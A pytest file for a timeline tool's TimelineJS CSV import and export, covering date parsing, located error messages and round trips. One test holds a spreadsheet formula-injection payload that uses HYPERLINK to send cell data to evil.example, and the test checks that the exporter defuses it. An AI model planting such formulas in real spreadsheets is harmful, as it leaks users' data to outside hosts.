"""The TimelineJS spreadsheet as CSV: columns by name, row lines in problems, round trips."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest

from timeline.cli import main
from timeline.dates import format_iso
from timeline.interchange import COLUMNS
from timeline.model import Event, Precision, Qualifier, Quote, Source, Timeline, When
from timeline.read import load_any
from timeline.read.toml import load_text
from timeline.write import csv as csv_format
from timeline.write import json as json_format
from timeline.write import toml as toml_writer

ROOT = Path(__file__).resolve().parent.parent
FIXTURE = ROOT / "tests" / "fixtures" / "timelinejs.csv"
EVENTS = ROOT / "events.toml"
PROVENANCE = ROOT / "tests" / "fixtures" / "provenance.toml"


def _loaded(path: Path) -> Timeline:
    result = load_any(path)
    assert result.timeline is not None, [str(p) for p in result.problems]
    return result.timeline


def _write(tmp_path: Path, text: str, name: str = "sheet.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_sample_sheet_opens_with_title_eras_groups_and_bce() -> None:
    timeline = _loaded(FIXTURE)
    assert timeline.title == "A Short History of Walls"
    assert timeline.summary == "Built, breached & rebuilt."
    assert [era.title for era in timeline.eras] == ["Imperial China", "The Berlin Wall stands"]
    assert {e.group for e in timeline.events} == {"China", "Berlin"}
    first = timeline.events[0]
    assert (first.when.year, first.when.precision, first.display_date) == (
        -700,
        Precision.YEAR,
        "c. 700 BCE",
    )
    kennedy = timeline.get("kennedy-in-berlin")
    assert kennedy is not None
    assert (kennedy.when.month, kennedy.when.precision) == (6, Precision.MONTH)
    assert kennedy.quotes == (Quote("Ich bin ein Berliner.", "John F. Kennedy"),)
    berlin = timeline.get("berlin-is-divided-overnight")
    assert berlin is not None
    assert (berlin.when.hour, berlin.when.minute) == (1, 30)  # "1:30 AM"
    assert berlin.context == "Barbed wire first. Concrete later."
    assert berlin.background == "#223344"
    # Line numbers of rows, counting the multi-line cell above.
    assert timeline.get("the-wall-falls") is not None
    assert timeline.get("the-wall-falls").line == 10  # type: ignore[union-attr]


def test_columns_are_matched_by_name_in_any_order_and_case(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "headline, TEXT ,month,YEAR,group\nWall falls,<p>Hi</p>,11,1989,Berlin\n",
    )
    event = _loaded(path).events[0]
    assert (event.title, event.context, event.group) == ("Wall falls", "Hi", "Berlin")
    assert (event.when.year, event.when.month, event.when.precision) == (1989, 11, Precision.MONTH)


def test_oldest_template_with_start_date_and_tag(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Start Date,End Date,Headline,Text,Media,Media Credit,Media Caption,Media Thumbnail,Type,Tag\n"
        "1989,,Old sheet,,,,,,,Berlin\n"
        '"2012,1,26",1/28/2012,Comma date,,,,,,,\n',
    )
    timeline = _loaded(path)
    old, comma = timeline.events
    assert (old.when.precision, old.group) == (Precision.YEAR, "Berlin")
    assert (comma.when.month, comma.when.day) == (1, 26)
    assert comma.end is not None and comma.end.day == 28


def test_sheet_without_alt_text_column(tmp_path: Path) -> None:
    header = ",".join(c for c in COLUMNS if c != "Alt Text")
    path = _write(tmp_path, header + "\n2018,7,19,,,,,,,Hello,,,,,,,,\n")
    assert _loaded(path).events[0].title == "Hello"


@pytest.mark.parametrize(
    ("row", "expected", "field"),
    [
        ("2018,13,1,,,,,,,Bad month", "'Month' must be a whole number from 1 to 12", "Month"),
        (",7,,,,,,,,No year", "'Year' is empty", "Year"),
        ("2018,7,19,25:00,,,,,,Bad time", "is not a time of day", "Time"),
        ("2018,7,19,,2017,,,,,Backwards", "the end must be on or after", "End Year"),
        ("2018,2,30,,,,,,,Bad day", "has days 1 to 28", "Day"),
        ("0,7,19,,,,,,,Year zero", "'Year' is the year 0, which the calendar does not", "Year"),
    ],
)
def test_problems_give_the_row_line_and_column_name(
    tmp_path: Path, row: str, expected: str, field: str
) -> None:
    header = ",".join(COLUMNS[:10])
    path = _write(tmp_path, f"{header}\n2018,7,1,,,,,,,Fine\n\n{row}\n")
    result = load_any(path)
    assert result.timeline is None
    (problem,) = result.errors
    assert expected in problem.message
    assert (problem.line, problem.field) == (4, field)
    assert str(problem).startswith(f"{path}:4:1: error:")


def test_a_display_date_naming_another_date_is_said_at_its_row_and_column(
    tmp_path: Path,
) -> None:
    # Bug fixed: the Display Date cell is shown in place of the date, and one naming
    # another day was read without a word (the TOML reader warns about it).
    header = ",".join(COLUMNS[:11])
    rows = '2019,7,4,,,,,,"July 5, 2019",Disagrees\n2019,7,4,,,,,,"4 July 2019",Agrees\n'
    path = _write(tmp_path, f"{header}\n{rows}")
    result = load_any(path)
    assert result.timeline is not None
    (problem,) = result.warnings
    assert problem.message == (
        "event 'disagrees' (row 2): Display Date 'July 5, 2019' names another date than the "
        "event's (4 Jul 2019), and is shown in its place everywhere; correct the one that "
        "is wrong"
    )
    assert (problem.line, problem.field, problem.event) == (2, "Display Date", "disagrees")


def test_a_display_date_stating_another_range_is_said_at_its_row(tmp_path: Path) -> None:
    # Bug fixed: the Display Date cell "1815 – 1853" of a row running from 1815 to 1852
    # was shown, and imported, as written.
    header = ",".join(COLUMNS[:11])  # with its Text column, whose absence is said
    rows = '1815,,,,1852,,,,"1815 – 1853",Disagrees,\n1815,,,,1852,,,,"1815 – 1852",Agrees,\n'
    result = load_any(_write(tmp_path, f"{header}\n{rows}"))
    assert result.timeline is not None
    (problem,) = result.warnings
    assert problem.message.startswith(
        "event 'disagrees' (row 2): Display Date '1815 – 1853': its end names another date "
        "than the event's end_date (1852); it is shown in place of the dates everywhere"
    )
    assert (problem.line, problem.field, problem.event) == (2, "Display Date", "disagrees")


DERIVED = """[timeline]
title = "T"

[[events]]
id = "anchor"
date = 2019-03-06
title = "Anchor"

[[events]]
id = "letter"
date = "Monday"
relative_to = "anchor"
title = "Letter"

[[events]]
id = "leak"
date = "after 10 October 2019"
title = "Leak"

[[events]]
id = "memo"
date = "circa 1990"
title = "Memo"

[[events]]
id = "trip"
date = 2019-03-04
end_date = "circa 2019-03-07"
title = "Trip"
"""


def _sheet_edited(tmp_path: Path, toml_text: str, edits: dict[tuple[str, str], str]) -> Path:
    """The timeline exported to the sheet, with cells changed: {(headline, column): text}."""
    timeline = load_text(toml_text, "t.toml").timeline
    assert timeline is not None
    rows = list(csv.reader(io.StringIO(csv_format.dumps(timeline), newline="")))
    for (headline, column), text in edits.items():
        row = next(r for r in rows if r[COLUMNS.index("Headline")] == headline)
        row[COLUMNS.index(column)] = text
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return _write(tmp_path, out.getvalue(), "edited.csv")


def test_a_derived_display_date_goes_with_a_changed_date_and_an_edited_one_is_checked(
    tmp_path: Path,
) -> None:
    # Bug fixed: the export writes a display date for a derived date ("4 Mar 2019" for
    # "Monday"); once the date was changed in the sheet it named the old day, and was
    # shown, and imported, as if the writer had chosen it. An edited one was not checked.
    path = _sheet_edited(
        tmp_path,
        DERIVED,
        {
            ("Letter", "Day"): "5",
            ("Leak", "Display Date"): "after 11 Oct 2019",
            ("Trip", "Day"): "1",
        },
    )
    result = load_any(path)
    timeline = result.timeline
    assert timeline is not None
    shown = {e.id: e.display_date for e in timeline.events}
    trip = "4 Mar 2019 – circa 7 Mar 2019"
    assert shown == {
        "anchor": "",
        "letter": "",
        "leak": "after 11 Oct 2019",
        "memo": "",
        "trip": trip,
    }
    said = {(p.event, p.field): p.message for p in result.warnings}
    assert said[("letter", "Display Date")] == (
        "event 'letter' (row 4): 'Display Date' ('4 Mar 2019') was derived from the date "
        "when the file was exported, and the date was changed since, so it was dropped: "
        "the date is shown as it now reads, 5 Mar 2019"
    )
    assert said[("leak", "Display Date")].startswith(
        "event 'leak' (row 7): Display Date 'after 11 Oct 2019' names another date than "
        "the event's (after 10 Oct 2019)"
    )
    # Its start, exact, has no hidden data: whether it or the display date was edited
    # is not known, and the display date is kept, saying so.
    assert said[("trip", "Display Date")] == (
        f"event 'trip' (row 5): 'Display Date' ('{trip}') was derived from the dates when "
        "the file was exported, and does not show them as they now read (1 Mar 2019 – circa "
        "7 Mar 2019); it was kept and is shown in their place: correct it, or empty it to "
        "show the dates"
    )
    assert len(result.warnings) == 4  # and the letter's "Monday", dropped with its date
    imported = toml_writer.dumps(timeline)
    assert 'date = 2019-03-05\ntitle = "Letter"' in imported
    assert 'display_date = "4 Mar 2019"' not in imported


RELATIVE = """[timeline]
title = "Relative"

[[events]]
id = "letter"
date = 2019-03-04
title = "Letter sent"

[[events]]
id = "reply"
date = "3 days after"
relative_to = "letter"
title = "Reply received"

[[events]]
id = "meeting"
date = "next Monday"
relative_to = "letter"
title = "Meeting"
"""


def test_an_anchor_moved_in_the_sheet_leaves_the_dates_counted_from_it_as_shown(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Bug fixed: the letter's Day changed from 4 to 1 checked ok; the sheet printed the
    # reply and the meeting on 7 and 11 March, as their rows show, but import wrote
    # them back as "3 days after" and "next Monday" the letter: 4 March, both.
    path = _sheet_edited(tmp_path, RELATIVE, {("Letter sent", "Day"): "1"})
    result = load_any(path)
    assert result.timeline is not None
    dates = {e.id: (format_iso(e.when), e.when.anchor) for e in result.timeline.events}
    assert dates == {
        "letter": ("2019-03-01", None),
        "reply": ("2019-03-07", None),
        "meeting": ("2019-03-11", None),
    }
    said = {(p.event, p.field, p.line): p.message for p in result.warnings}
    assert said[("reply", "Year", 4)] == (
        "event 'reply' (row 4): its date, '3 days after' counted from 'letter', was 7 Mar "
        "2019 when the file was exported, but 'letter' is now dated 1 Mar 2019, from which "
        "it counts to 4 Mar 2019. The date is kept as row 4 shows it, 7 Mar 2019, and no "
        "longer counted from 'letter'; to count it again, write date = \"3 days after\" "
        'with relative_to = "letter" in the imported TOML'
    )
    assert "'next Monday' counted from 'letter'" in said[("meeting", "Year", 5)]
    assert len(said) == 2
    # One reading: what is printed is what import writes.
    out = tmp_path / "back.toml"
    assert main(["import", str(path), "-o", str(out)]) == 0
    capsys.readouterr()
    assert "relative_to" not in out.read_text(encoding="utf-8")
    again = load_any(out)
    assert again.timeline is not None and again.problems == []
    assert {e.id: (format_iso(e.when), e.when.anchor) for e in again.timeline.events} == dates


def test_missing_year_column_says_what_is_valid(tmp_path: Path) -> None:
    result = load_any(_write(tmp_path, "Headline,Text\nx,y\n"))
    assert result.timeline is None
    assert "no 'Year' column" in result.errors[0].message
    assert "End Year" in result.errors[0].message


def test_export_has_the_template_columns_in_order() -> None:
    text = csv_format.dumps(_loaded(EVENTS))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == COLUMNS
    assert rows[1][COLUMNS.index("Type")] == "title"
    benioff = next(r for r in rows if "Benioff: Salesforce" in r[9])
    assert benioff[:4] == ["2018", "7", "8", ""]


@pytest.mark.parametrize("path", [EVENTS, PROVENANCE], ids=["events", "provenance"])
def test_events_toml_round_trips_exactly_through_csv(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], path: Path
) -> None:
    out = tmp_path / "e.csv"
    assert main(["export", str(path), "--to", "csv", "--private", "-o", str(out)]) == 0
    assert main(["export", str(path), "--to", "json", "--private"]) == 0
    before = json.loads(capsys.readouterr().out)
    assert main(["export", str(out), "--to", "json", "--private"]) == 0
    after = json.loads(capsys.readouterr().out)
    for data in (before, after):
        for event in data["events"]:
            del event["file"]
    assert after == before


def test_sheet_round_trips_through_itself(tmp_path: Path) -> None:
    first = _loaded(FIXTURE)
    second = _loaded(_write(tmp_path, csv_format.dumps(first)))
    a, b = json_format.timeline_to_dict(first), json_format.timeline_to_dict(second)
    for data in (a, b):
        for event in data["events"]:
            del event["file"]
    assert a == b


def test_broken_csv_exits_1_without_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _write(tmp_path, 'Year,Headline\n2018,"unterminated\n')
    assert main(["check", str(path)]) == 1
    out = capsys.readouterr()
    assert "Traceback" not in out.out + out.err
    assert "sheet.csv" in out.out


@pytest.mark.parametrize("year", ["10000", "12345678901234567890123"])
@pytest.mark.parametrize("command", ["import", "print"])
def test_years_beyond_9999_are_reported_without_a_traceback(
    tmp_path: Path, year: str, command: str
) -> None:
    import os
    import subprocess
    import sys

    path = _write(tmp_path, f"Year,Month,Day,Headline\n{year},2,3,x\n", "y10k.csv")
    args = ["import", str(path), "-o", str(tmp_path / "out.toml")]
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTEST")}
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "timeline",
            *(args if command == "import" else [command, str(path)]),
        ],
        capture_output=True,
        text=True,
        encoding="utf-8",
        cwd=tmp_path,
        env={**env, "PYTHONIOENCODING": "utf-8"},
        timeout=60,
        check=False,
    )
    assert "Traceback" not in done.stderr
    assert done.returncode in (0, 1)
    assert done.stdout or done.stderr


def test_an_absurd_year_is_a_located_problem(tmp_path: Path) -> None:
    path = _write(tmp_path, "Year,Month,Day,Headline\n1,2,3,ok\n1234567890123,2,3,x\n")
    result = load_any(path)
    [problem] = [p for p in result.problems if p.severity == "error"]
    assert problem.line == 3
    assert (
        "'Year' is 1234567890123; years run from -100,000,000,000 to 100,000,000,000"
        in problem.message
    )


def test_provenance_comes_back_whole_through_the_sheet(tmp_path: Path) -> None:
    original = _loaded(PROVENANCE)
    back = _loaded(_write(tmp_path, csv_format.dumps(original, private=True)))
    assert [e._replace(file="", line=0) for e in back.events] == [
        e._replace(file="", line=0) for e in original.events
    ]
    public = csv_format.dumps(original)
    assert "Ask RAICES" not in public and "archived the next morning" not in public


def test_formulas_in_provenance_fields_are_defused_and_read_back(tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    source = Source(formula, formula, formula, None, formula)
    event = Event(
        "e",
        When(2018, 7, 19, written="2018-07-19"),
        formula,
        sources=(source,),
        quotes=(Quote(formula, formula, None, source, formula),),
        status="unverified",
        notes=formula,
    )
    text = csv_format.dumps(Timeline("T", (event,)), private=True)
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(cell.startswith(("=", "+", "@")) for cell in row)
    back = _loaded(_write(tmp_path, text))
    assert back.events[0]._replace(file="", line=0) == event


OLD_SHEET = (
    "Start Date,End Date,Headline,Text,Tag\n"
    "7/4/2012,,a,,\n"
    "before 2012,,b,,\n"
    "circa 1850,,c,,\n"
    "2012?,,d,,\n"
    "2012-07-04T14:05+02:00,,e,,\n"
)


def test_oldest_template_dates_are_read_as_a_toml_date_field(tmp_path: Path) -> None:
    result = load_any(_write(tmp_path, OLD_SHEET))
    assert result.timeline is not None, [str(p) for p in result.problems]
    by_title = {e.title: e.when for e in result.timeline.events}
    assert by_title["b"].qualifier is Qualifier.BEFORE
    assert by_title["c"].qualifier is Qualifier.CIRCA
    assert by_title["d"].qualifier is Qualifier.UNCERTAIN
    assert by_title["e"].tz is not None and by_title["e"].tz.utcoffset(None) == timedelta(hours=2)
    assert [by_title[t].written for t in "abcde"] == [
        "7/4/2012",
        "before 2012",
        "circa 1850",
        "2012?",
        "2012-07-04T14:05+02:00",
    ]
    # Read month-first, as in a TOML file, and said so at the row and column.
    (problem,) = result.problems
    assert problem.severity == "warning" and "read month-first" in problem.message
    assert (problem.line, problem.field) == (2, "Start Date")


def test_oldest_template_dates_are_imported_as_they_read(tmp_path: Path) -> None:
    out = tmp_path / "old.toml"
    assert main(["import", str(_write(tmp_path, OLD_SHEET)), "-o", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    for value in ("before 2012", "circa 1850", "2012?", "2012-07-04T14:05+02:00"):
        assert f'date = "{value}"' in text
    again, original = load_any(out).timeline, load_any(tmp_path / "sheet.csv").timeline
    assert again is not None and original is not None
    assert [(e.when.key, e.when.qualifier, e.when.tz) for e in again.events] == [
        (e.when.key, e.when.qualifier, e.when.tz) for e in original.events
    ]


def test_oldest_template_span_in_one_cell_is_a_start_and_an_end(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "Start Date,End Date,Headline\n16-19 July 2018,,Span\nbefore 1990,1990s,Later\n",
    )
    result = load_any(path)
    assert result.timeline is None
    (problem,) = result.errors
    assert "is a span; an end is one date" in problem.message
    assert (problem.line, problem.field) == (3, "End Date")
    path.write_text("Start Date,End Date,Headline\n16-19 July 2018,,Span\n", encoding="utf-8")
    (event,) = _loaded(path).events
    assert event.end is not None
    assert (event.when.day, event.end.day, event.end.month) == (16, 19, 7)


@pytest.mark.parametrize(
    ("row", "expected", "field"),
    [
        ("16-19 July 2018,20 July 2018", "gives a span, start and end", "End Date"),
        ("Monday,", "is relative to another event", "Start Date"),
        ("4/7/12,", "writes the year with two digits", "Start Date"),
        # The columns named as the sheet has them (it said 'End Year' and 'Year').
        ("2018,2012", "'End Date' 2012 is before 'Start Date' 2018; the end must be", "End Date"),
    ],
)
def test_oldest_template_date_problems_give_the_row_and_column(
    tmp_path: Path, row: str, expected: str, field: str
) -> None:
    path = _write(tmp_path, f"Start Date,End Date,Headline\n2018,,Fine\n{row},Bad\n")
    result = load_any(path)
    assert result.timeline is None
    (problem,) = result.errors
    assert expected in problem.message
    assert (problem.line, problem.field) == (3, field)


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("Headline,Year,Month,Day,Year", "the column 'Year' is given twice, in columns B and E"),
        (
            "Headline,Year,Alt Text,Media Alt",
            "the column 'Alt Text' is given twice, as 'Alt Text' in column C and as "
            "'Media Alt' in column D",
        ),
    ],
)
def test_a_column_given_twice_is_an_error_not_a_choice(
    tmp_path: Path, header: str, expected: str
) -> None:
    # Bug fixed: the first 'Year' was read and the second left out without a word.
    path = _write(tmp_path, f"{header}\nA,2019,3,4,2020\n")
    result = load_any(path)
    assert result.timeline is None
    (problem,) = result.errors
    assert expected in problem.message
    assert "remove or rename one" in problem.message
    assert str(problem).startswith(f"{path}:1:1: error:")


def test_cells_beyond_the_header_are_an_error_and_empty_ones_are_fine(tmp_path: Path) -> None:
    # Bug fixed: the cells beyond the header were dropped without a word.
    path = _write(tmp_path, "Year,Month,Day,Headline,Text\n2019,3,4,A,x,extra,cells\n2019,3\n")
    result = load_any(path)
    assert result.timeline is None
    (problem,) = result.errors
    assert (problem.line, problem.file) == (2, str(path))
    assert "row 2: 7 cells, more than the 5 columns named in the first row" in problem.message
    assert "'extra', 'cells'" in problem.message
    # Spreadsheets write every row as wide as the widest: empty cells beyond are fine.
    path.write_text("Year,Month,Day,Headline,Text\r\n2019,3,4,A,x,,\r\n", encoding="utf-8")
    assert [e.title for e in _loaded(path).events] == ["A"]


def test_a_cell_under_a_column_without_a_name_is_ignored_with_a_warning(tmp_path: Path) -> None:
    # As Google Sheets writes a column of notes with no name: the header cell empty.
    path = _write(tmp_path, "Year,Headline,,Text\n2019,A,a note\n2020,B,\n")
    result = load_any(path)
    assert result.timeline is not None
    (problem,) = result.problems
    assert (problem.severity, problem.line) == ("warning", 2)
    assert "'a note' in column C, which has no name in the first row, was ignored" in (
        problem.message
    )


def test_problems_come_in_file_order(tmp_path: Path) -> None:
    # Bug fixed: a row's Time was checked while reading the rows, its Month later with
    # the slides, so row 4's problem was listed before row 2's.
    header = ",".join(COLUMNS[:11])
    path = _write(
        tmp_path,
        f"{header}\n2019,13,1,,,,,,,Bad month\n2019,7,4,,2019,7,2,,,Backwards\n"
        "2019,7,4,25:00,,,,,,Bad time\n2019,7,4,,,,,,,Same\n2019,7,4,,,,,,,Same\n",
    )
    problems = load_any(path).problems
    assert [p.line for p in problems] == [2, 3, 4]
    assert "'Month'" in problems[0].message and "'Time'" in problems[2].message


def test_a_date_or_a_group_given_by_two_templates_columns_is_an_error(tmp_path: Path) -> None:
    # Bug fixed: a row with both Year and Start Date was dated by Year, and one with
    # both Group and Tag (the older template's name for it) grouped by Group, the other
    # cell dropped without a word.
    path = _write(
        tmp_path,
        "Year,Month,Day,Start Date,End Year,End Date,Headline,Group,Tag,Text\n"
        "2019,3,4,2020-01-01,,,A,,\n"
        "2019,3,4,,2019,2019-05-01,B,,\n"
        "2019,3,5,,,,C,Press,Council\n"
        "2019,3,6,,,,D,Press,Press\n"
        "2019,3,7,,,,E,,Council\n",
    )
    result = load_any(path)
    assert [(p.line, p.field, p.message) for p in result.problems] == [
        (
            2,
            "Start Date",
            "row 2: 'Year' ('2019') and 'Start Date' ('2020-01-01') both give the start date; "
            "keep one: the Year, Month and Day columns, or 'Start Date'",
        ),
        (
            3,
            "End Date",
            "row 3: 'End Year' ('2019') and 'End Date' ('2019-05-01') both give the end "
            "date; keep one: the End Year, End Month and End Day columns, or 'End Date'",
        ),
        (
            4,
            "Tag",
            "row 4: 'Group' ('Press') and 'Tag' ('Council'), the older template's name for "
            "it, both give the group; keep one",
        ),
    ]
    # The same group in both, or one of them, is read as it was.
    path.write_text(
        "Year,Headline,Group,Tag\n2019,D,Press,Press\n2019,E,,Council\n", encoding="utf-8"
    )
    assert [e.group for e in _loaded(path).events] == ["Press", "Council"]


def test_an_end_date_changed_in_the_sheet_is_said_at_its_own_column(tmp_path: Path) -> None:
    # Bug fixed: "the date was changed since the file was exported" was said of the
    # start, at its Year column, when the end had been changed.
    text = '[timeline]\ntitle = "T"\n[[events]]\nid = "e"\ntitle = "Trip"\n'
    text += 'date = "16-19 July 2018"\n'
    path = _sheet_edited(tmp_path, text, {("Trip", "End Day"): "20"})
    (problem,) = load_any(path).problems
    assert problem.message == (
        "event 'e' (row 3): the end date was changed since the file was exported, so how "
        "it was written ('16-19 July 2018') was dropped"
    )
    assert problem.field == "End Year"


def _events_sheet(edit: Callable[[list[list[str]]], list[list[str]]]) -> str:
    """events.toml exported to the spreadsheet's CSV, its rows edited."""
    timeline = load_any(EVENTS).timeline
    assert timeline is not None
    rows = list(csv.reader(io.StringIO(csv_format.dumps(timeline), newline="")))
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(edit(rows))
    return out.getvalue()


def test_a_sheet_without_its_text_column_says_what_is_lost(tmp_path: Path) -> None:
    # Bug fixed: without the Text column, every quote, source, status, id and relative
    # date was lost without a word, and `import` made ids from the headlines.
    def without_text(rows: list[list[str]]) -> list[list[str]]:
        at = rows[0].index("Text")
        return [row[:at] + row[at + 1 :] for row in rows]

    path = _write(tmp_path, _events_sheet(without_text))
    result = load_any(path)
    assert result.timeline is not None
    said = [p for p in result.warnings if "'Text'" in p.message]
    assert len(said) == 1 and (said[0].line, said[0].field) == (1, "Text")
    message = said[0].message
    assert message.startswith("no 'Text' column: it holds each row's context, quotes")
    for lost in ("ids", "how dates were written: relative", "quotes' own dates and sources"):
        assert lost in message


def test_rows_of_our_export_without_their_hidden_data_are_said_in_one_warning(
    tmp_path: Path,
) -> None:
    # Bug fixed: a row whose hidden data was deleted (or cut off with the end of a long
    # cell) lost its id, how its date was written, its speaker and tags without a word,
    # while the other rows of the sheet showed the file was exported by timeline.
    def stripped(rows: list[list[str]]) -> list[list[str]]:
        at = rows[0].index("Text")
        for row in rows[3], rows[5]:
            row[at] = row[at].split("<!--timeline:")[0]
        return rows

    path = _write(tmp_path, _events_sheet(stripped))
    result = load_any(path)
    assert result.timeline is not None
    said = [p for p in result.warnings if "no hidden data" in p.message]
    assert len(said) == 1 and (said[0].line, said[0].field) == (4, "Text"), said
    assert said[0].message.startswith(
        "rows 4 and 6 have no hidden data at the end of 'Text', while the 8 other ones have it"
    )
    assert "their ids (made from their headlines)" in said[0].message
    # A sheet of its own making (no row has hidden data) is not warned about.
    assert not [p for p in load_any(FIXTURE).warnings if "no hidden data" in p.message]
